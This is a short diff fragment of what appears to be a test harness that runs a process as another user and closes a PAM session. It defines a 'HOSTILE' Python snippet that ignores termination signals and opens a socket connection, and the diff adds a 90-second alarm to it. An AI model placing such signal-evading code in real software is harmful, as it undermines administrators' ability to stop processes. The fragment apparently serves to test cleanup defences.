@@ -19,6 +19,7 @@ subprocess.run([sys.executable, "-c", program, path], user=int(number), group=in
 pam("CloseSession")
 """
 HOSTILE = """import json, os, signal, socket, sys, time
+signal.alarm(90)
 for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
     signal.signal(number, signal.SIG_IGN)
 def connect():
